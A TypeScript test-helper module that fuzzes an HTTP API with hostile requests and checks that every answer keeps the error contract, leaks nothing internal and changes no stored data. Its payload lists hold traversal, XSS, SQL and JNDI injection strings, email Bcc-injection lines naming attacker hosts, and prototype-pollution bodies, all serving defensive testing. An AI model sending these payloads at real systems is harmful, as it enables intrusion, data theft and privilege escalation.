/**
 * What a hostile client sends, and how the hostile-input tests judge the answers: fast-check arbitraries for
 * path segments, query strings, headers and bodies (huge, deeply nested, wrong types, unicode tricks, CR/LF,
 * prototype-pollution keys), a request function that sends them as they are (bodies on GET, any Latin-1
 * header value, no redirects followed), raw socket requests for what no HTTP client would send, and the
 * checks: the contract's error shape, nothing stored, no email sent.
 */
import http from 'node:http';
import net from 'node:net';
import { DynamoDBDocumentClient, ScanCommand } from '@aws-sdk/lib-dynamodb';
import fc from 'fast-check';
import { tables, type TableName } from '../../lib/platform';
import { emulatorClients } from '../../local/platform';
import { emulatorEndpoints, type TestPlatform } from './platform';

// ---- sending -------------------------------------------------------------------------------------------

export interface HostileRequest {
  method: string;
  /** Already encoded: sent byte for byte as the request target. */
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
}

export interface HostileAnswer {
  status: number;
  headers: http.IncomingHttpHeaders;
  text: string;
  body: unknown;
}

const agent = new http.Agent({ keepAlive: true, maxSockets: 8 });

/** Sends the request exactly as given; the answer's body parsed as JSON when it is JSON. */
export const send = (platform: TestPlatform, request: HostileRequest): Promise<HostileAnswer> =>
  new Promise((resolve, reject) => {
    const outgoing = http.request(
      {
        host: '127.0.0.1',
        port: platform.port,
        method: request.method,
        path: request.path,
        agent,
        headers: {
          ...request.headers,
          ...(request.body ? { 'content-length': String(request.body.length) } : {}),
        },
      },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8');
          let body: unknown = text;
          try {
            body = text ? JSON.parse(text) : undefined;
          } catch {
            // Not JSON: judged as such by the caller.
          }
          resolve({ status: response.statusCode ?? 0, headers: response.headers, text, body });
        });
        response.on('error', reject);
      },
    );
    outgoing.on('error', reject);
    outgoing.end(request.body);
  });

/** Whether `raw` holds one complete HTTP answer (by Content-Length or the last chunk). */
const complete = (raw: Buffer): boolean => {
  const split = raw.indexOf('\r\n\r\n');
  if (split < 0) return false;
  const head = raw.subarray(0, split).toString('latin1');
  const length = /\r\ncontent-length:\s*(\d+)/i.exec(head);
  if (length) return raw.length - split - 4 >= Number(length[1]);
  if (/\r\ntransfer-encoding:\s*chunked/i.test(head)) return raw.subarray(split).includes('\r\n0\r\n\r\n');
  return false;
};

/**
 * Writes bytes straight to the gateway's socket and returns its first answer (or everything it said before
 * closing). The socket is not half-closed: Node drops a request whose client hung up before the answer.
 */
export const sendRaw = (port: number, bytes: string | Buffer): Promise<string> =>
  new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1');
    let received = Buffer.alloc(0);
    const done = () => {
      socket.destroy();
      resolve(received.toString('latin1'));
    };
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      if (complete(received)) done();
    });
    socket.on('close', done);
    socket.on('error', (error: NodeJS.ErrnoException) =>
      error.code === 'ECONNRESET' ? done() : reject(error),
    );
    socket.setTimeout(10_000, done);
    socket.write(bytes);
  });

/** Splits a raw HTTP/1.1 answer into status, headers and body (chunked bodies are de-chunked). */
export const parseRawAnswer = (raw: string): HostileAnswer => {
  const split = raw.indexOf('\r\n\r\n');
  const head = split < 0 ? raw : raw.slice(0, split);
  let payload = split < 0 ? '' : raw.slice(split + 4);
  const [statusLine, ...lines] = head.split('\r\n');
  const headers: http.IncomingHttpHeaders = {};
  for (const line of lines) {
    const colon = line.indexOf(':');
    if (colon > 0) headers[line.slice(0, colon).trim().toLowerCase()] = line.slice(colon + 1).trim();
  }
  if (/chunked/i.test(String(headers['transfer-encoding'] ?? ''))) {
    let body = '';
    for (;;) {
      const eol = payload.indexOf('\r\n');
      const size = parseInt(payload.slice(0, eol), 16);
      if (!(size > 0)) break;
      body += payload.slice(eol + 2, eol + 2 + size);
      payload = payload.slice(eol + 2 + size + 2);
    }
    payload = body;
  }
  const text = Buffer.from(payload, 'latin1').toString('utf8');
  let body: unknown = text;
  try {
    body = text ? JSON.parse(text) : undefined;
  } catch {
    // Not JSON: judged by the caller.
  }
  return { status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(statusLine)?.[1] ?? 0), headers, text, body };
};

/** Runs `work` over `items`, at most `limit` at a time. */
export const inParallel = async <T, R>(items: readonly T[], limit: number, work: (item: T) => Promise<R>) => {
  const results: R[] = new Array(items.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: Math.min(limit, items.length) }, async () => {
      while (next < items.length) {
        const i = next++;
        results[i] = await work(items[i]);
      }
    }),
  );
  return results;
};

// ---- judging -------------------------------------------------------------------------------------------

/** The contract's codes by status (docs/api.md); 431 is the gateway's answer to oversized headers. */
const CODES: Record<number, string[]> = {
  400: ['VALIDATION'],
  401: ['UNAUTHORIZED'],
  403: ['FORBIDDEN'],
  404: ['NOT_FOUND'],
  409: ['BACKORDERS_DISABLED', 'QUANTITY_LIMIT'],
  413: ['PAYLOAD_TOO_LARGE'],
  415: ['UNSUPPORTED_MEDIA_TYPE'],
  429: ['RATE_LIMITED'],
  431: ['PAYLOAD_TOO_LARGE'],
};

/**
 * Traces of a crash or of the server's insides. Fuzzed input echoed in a message ("Product X not found")
 * is random text, which does not spell these.
 */
const LEAKS = [
  /\n\s+at /,
  /\bat [\w.$<>]+ \(/,
  /node_modules/,
  /\/work\//,
  /lambdas\//,
  /\.ts:\d+/,
  /\b(TypeError|ReferenceError|RangeError|SyntaxError)\b/,
  /Cannot read propert/,
  /is not a function/,
  /ValidationException|ConditionalCheckFailed|ResourceNotFoundException|AWS\.|aws-sdk/,
  /"INTERNAL"|internal error/,
];

/**
 * Why an answer breaks the contract for bad input, or undefined when it keeps it: a 4xx with exactly
 * `{"error":{"code","message","details"?}}`, the code belonging to the status, JSON, and nothing internal.
 */
export const contractViolation = (answer: HostileAnswer): string | undefined => {
  const { status, body, text } = answer;
  if (status < 400 || status > 499) return `status ${status}: ${text.slice(0, 300)}`;
  if (!String(answer.headers['content-type'] ?? '').startsWith('application/json'))
    return `content-type ${answer.headers['content-type']} on ${status}`;
  if (typeof body !== 'object' || body === null || Array.isArray(body)) return `not a JSON object: ${text}`;
  if (Object.keys(body).join() !== 'error') return `top-level keys ${Object.keys(body).join()}`;
  const error = (body as { error: unknown }).error as Record<string, unknown>;
  if (typeof error !== 'object' || error === null) return 'error is not an object';
  const keys = Object.keys(error).sort().join();
  if (keys !== 'code,details,message' && keys !== 'code,message') return `error keys ${keys}`;
  if (typeof error.code !== 'string' || typeof error.message !== 'string' || error.message.length === 0)
    return `code/message not strings: ${text}`;
  if (!(CODES[status] ?? []).includes(error.code)) return `code ${error.code} with status ${status}`;
  if (error.details !== undefined) {
    if (!Array.isArray(error.details)) return 'details is not an array';
    for (const detail of error.details)
      if (typeof detail !== 'object' || detail === null || typeof detail.message !== 'string')
        return `detail ${JSON.stringify(detail)}`;
  }
  const leak = LEAKS.find((pattern) => pattern.test(text));
  if (leak) return `leaks ${leak}: ${text.slice(0, 300)}`;
  return undefined;
};

/** Fails with the request and the answer when the answer breaks the contract. */
export const expectContractError = (request: HostileRequest | string, answer: HostileAnswer): void => {
  const violation = contractViolation(answer);
  if (violation) {
    const shown =
      typeof request === 'string'
        ? JSON.stringify(request.slice(0, 400))
        : `${request.method} ${request.path.slice(0, 300)} headers=${JSON.stringify(request.headers).slice(0, 300)} body=${JSON.stringify(request.body?.toString('utf8').slice(0, 300))}`;
    throw new Error(`${violation}\n  request: ${shown}`);
  }
};

// ---- what was stored, what was sent -------------------------------------------------------------------

const scanAll = async (tableName: string): Promise<Record<string, unknown>[]> => {
  const dynamo = documentClient();
  const items: Record<string, unknown>[] = [];
  let start: Record<string, unknown> | undefined;
  do {
    const page = await dynamo.send(
      new ScanCommand({ TableName: tableName, ExclusiveStartKey: start, ConsistentRead: true }),
    );
    items.push(...(page.Items ?? []));
    start = page.LastEvaluatedKey as typeof start;
  } while (start);
  return items;
};

let cached: DynamoDBDocumentClient | undefined;
/** A client of the test run's DynamoDB Local, for reading (and seeding) tables directly. */
export const documentClient = () =>
  (cached ??= DynamoDBDocumentClient.from(emulatorClients(emulatorEndpoints()).dynamo));

/** Every table of the spec, so a new one is compared too. */
export const ALL_TABLES = Object.keys(tables) as readonly TableName[];

/** Every row of the given tables, sorted, as text; the sweepers' moving watermarks are left out. */
export const snapshotTables = async (
  platform: TestPlatform,
  tables: readonly TableName[],
): Promise<Record<string, string[]>> => {
  const snapshot: Record<string, string[]> = {};
  for (const table of tables) {
    const rows = await scanAll(platform.tableNames[table]);
    snapshot[table] = rows
      .filter((row) => !(table === 'settings' && /^(nurture|hold|eta)-sweeper$/.test(String(row.name))))
      .map((row) => JSON.stringify(row, Object.keys(row).sort()))
      .sort();
  }
  return snapshot;
};

/** A snapshot of every table once two looks a moment apart agree (background work has settled). */
export const settledSnapshot = async (platform: TestPlatform): Promise<Record<string, string[]>> => {
  let previous = await snapshotTables(platform, ALL_TABLES);
  for (let i = 0; i < 50; i++) {
    await new Promise((resolve) => setTimeout(resolve, 300));
    const current = await snapshotTables(platform, ALL_TABLES);
    if (JSON.stringify(current) === JSON.stringify(previous)) return current;
    previous = current;
  }
  throw new Error('the tables never settled');
};

export const rowsOf = async (platform: TestPlatform, table: TableName) => scanAll(platform.tableNames[table]);

/**
 * Ids of every message the platform sent that the SES emulator holds: its configuration set's, since other
 * test files' platforms share the emulator.
 */
export const sesMessageIds = async (platform: TestPlatform): Promise<Set<string>> => {
  const response = await fetch(`${platform.sesUrl}/store`);
  const { emails } = (await response.json()) as {
    emails: { messageId: string; configurationSet?: string }[];
  };
  return new Set(
    emails.filter((email) => email.configurationSet === platform.sesConfigurationSet).map((e) => e.messageId),
  );
};

// ---- generating ----------------------------------------------------------------------------------------

/** Strings meant to break something: injection, traversal, pollution, encodings, sizes. */
export const NASTY_STRINGS = [
  '',
  ' ',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '../../etc/passwd',
  '..\\..\\windows',
  'victim@example.com\r\nBcc: evil@attacker.example',
  'victim@example.com\nBcc: evil@attacker.example',
  'x\r\n\r\n<html>',
  'Subject: pwned',
  '\u0000',
  '\u0000victim@example.com',
  '\u202evictim@example.com',
  '\u200b',
  '\ufeff',
  '\u2028\u2029',
  '\u0085',
  '\ud800',
  '\udfff\ud800',
  '\u{1f4a9}'.repeat(50),
  'Z\u0351\u0360\u0342\u0310\u034d\u0353a\u0349\u0316l\u0361\u0355go',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1' --",
  '{"$ne":null}',
  '${jndi:ldap://evil.example/a}',
  '{{ 7 * 7 }}{% raw %}',
  '%00%0d%0a',
  '=?UTF-8?Q?a=0D=0ABcc:_evil@attacker.example?=',
  'NaN',
  '-0',
  '1e309',
  'null',
  'true',
  'a'.repeat(4096),
  '\u00e9'.repeat(300),
];

export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...NASTY_STRINGS), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 60 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 1 },
  { arbitrary: fc.string({ maxLength: 300 }), weight: 1 },
);

/** Percent-encodes every byte that is not unreserved (lone surrogates become U+FFFD, as UTF-8 does). */
export const encodeBytes = (text: string): string =>
  [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9\-._~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');

/** Text that may go into a request target as it is: broken and tricky percent-encodings. */
const RAW_URL_FRAGMENTS = [
  '%',
  '%zz',
  '%C0%AF',
  '%FF%FE',
  '%ED%A0%80',
  '%00',
  '%0D%0A',
  '..',
  '%2e%2e',
  '%2F',
  '%252F',
  ';jsessionid=1',
  '..;',
];

const CROCKFORD = '0123456789ABCDEFGHJKMNPQRSTVWXYZ';

/** A syntactically valid backorder id (that exists nowhere). */
export const wellFormedId: fc.Arbitrary<string> = fc
  .array(fc.constantFrom(...CROCKFORD), { minLength: 26, maxLength: 26 })
  .map((chars) => chars.join(''));

/** A token of the real shape (43 base64url characters) that was never issued. */
export const wellFormedToken: fc.Arbitrary<string> = fc
  .uint8Array({ minLength: 32, maxLength: 32 })
  .map((bytes) => Buffer.from(bytes).toString('base64url'));

/** A path segment for `{sku}` or `{id}`: never an existing product or backorder. */
export const pathSegment: fc.Arbitrary<string> = fc.oneof(
  nastyString.filter((s) => s.length > 0).map(encodeBytes),
  fc.constantFrom(...RAW_URL_FRAGMENTS),
  wellFormedId,
  wellFormedId.map((id) => id.toLowerCase()),
  wellFormedId.map((id) => `${id}%0A`),
  fc.constantFrom('A'.repeat(2000), '0'.repeat(26), 'I'.repeat(26)),
);

const queryKey: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom('token', 'token', 'TOKEN', 'token[]', 'token[0]', ' token'), weight: 3 },
  { arbitrary: fc.constantFrom('__proto__', 'constructor', '__proto__[token]', 'id', 'sku'), weight: 1 },
  { arbitrary: nastyString, weight: 1 },
);

const queryValue: fc.Arbitrary<string> = fc.oneof(
  wellFormedToken,
  nastyString,
  fc.constantFrom('a'.repeat(600), 'a'.repeat(6000), ''),
);

/** A query string ("" or "?…"): repeated and array-style parameters, broken encodings, pollution keys. */
export const queryString: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      {
        arbitrary: fc.tuple(queryKey, queryValue).map(([k, v]) => `${encodeBytes(k)}=${encodeBytes(v)}`),
        weight: 4,
      },
      {
        arbitrary: fc.constantFrom(...RAW_URL_FRAGMENTS, 'token', 'token=', '=', '&&', 'token=a=b'),
        weight: 1,
      },
    ),
    { maxLength: 5 },
  )
  .map((pairs) => (pairs.length ? `?${pairs.join('&')}` : ''));

const HEADER_NAME_CHARS = "!#$%&'*+-.^_`|~0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";

/** Latin-1 text Node will send in a header (no control characters: those go through raw sockets). */
export const latin1Text: fc.Arbitrary<string> = fc.string({
  unit: fc
    .integer({ min: 0x20, max: 0xff })
    .filter((c) => c !== 0x7f)
    .map((c) => String.fromCharCode(c)),
  maxLength: 80,
});

const headerValue: fc.Arbitrary<string> = fc.oneof(
  latin1Text,
  fc.constantFrom('a'.repeat(6000), '__proto__', '127.0.0.1', '1.2.3.4:443', 'Bearer x', 't=1,v1=00'),
);

const headerName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'authorization',
    'x-signature',
    'cloudfront-viewer-address',
    'x-forwarded-for',
    'x-forwarded-host',
    'x-http-method-override',
    'content-encoding',
    'accept-charset',
    'origin',
    'cookie',
    'x-amzn-trace-id',
    'X-SIGNATURE',
  ),
  fc.string({ unit: fc.constantFrom(...HEADER_NAME_CHARS), minLength: 1, maxLength: 30 }),
);

/** Extra request headers (never the ones that frame the message). */
export const extraHeaders: fc.Arbitrary<Record<string, string>> = fc
  .array(fc.tuple(headerName, headerValue), { maxLength: 4 })
  .map((pairs) => {
    const headers: Record<string, string> = Object.create(null);
    for (const [name, value] of pairs) {
      if (/^(content-length|transfer-encoding|host|connection|expect|upgrade|te|trailer)$/i.test(name))
        continue;
      headers[name] = value;
    }
    return headers;
  });

export const contentType: fc.Arbitrary<string | undefined> = fc.constantFrom(
  'application/json',
  'application/json',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/vnd.api+json',
  'application/json; charset=utf-16',
  'text/plain',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  '',
  'application/json\u00ff',
  undefined,
);

/** A JSON object's text from key/value pairs, so keys such as `__proto__` and duplicates survive. */
export const objectText = (entries: readonly (readonly [string, unknown])[]): string =>
  `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}`).join(',')}}`;

const pollutionText: fc.Arbitrary<string> = fc
  .tuple(fc.jsonValue({ maxDepth: 2 }), fc.constantFrom('__proto__', 'constructor', 'prototype'))
  .map(([value, key]) =>
    key === 'constructor'
      ? objectText([[key, { prototype: { polluted: value, isAdmin: true } }]])
      : objectText([[key, { polluted: value, isAdmin: true, status: 'allocated' }]]),
  );

/** Bodies no route should accept, as bytes: every shape of wrong. */
export const hostileBody: fc.Arbitrary<Buffer> = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }).map((value) => Buffer.from(JSON.stringify(value))),
  pollutionText.map((text) => Buffer.from(text)),
  fc
    .tuple(fc.integer({ min: 50, max: 6000 }), fc.constantFrom('[', '{"a":'))
    .map(([depth, open]) => Buffer.from(open.repeat(depth) + '1' + (open === '[' ? ']' : '}').repeat(depth))),
  fc.integer({ min: 16 * 1024 + 1, max: 300 * 1024 }).map((size) => Buffer.from(`"${'x'.repeat(size)}"`)),
  fc.uint8Array({ minLength: 1, maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
  fc
    .tuple(nastyString, fc.uint8Array({ minLength: 1, maxLength: 4 }))
    .map(([text, bytes]) =>
      Buffer.concat([
        Buffer.from(`{"sku":"${text.slice(0, 20)}`),
        Buffer.from([0xc3, 0x28, ...bytes]),
        Buffer.from('"}'),
      ]),
    ),
  nastyString.map((text) => Buffer.from(text)),
  fc
    .constantFrom('List-Unsubscribe=One-Click&__proto__=1', 'a=b&a=c&token=x', 'null', '{}', '[]', '""', '0')
    .map((t) => Buffer.from(t)),
);
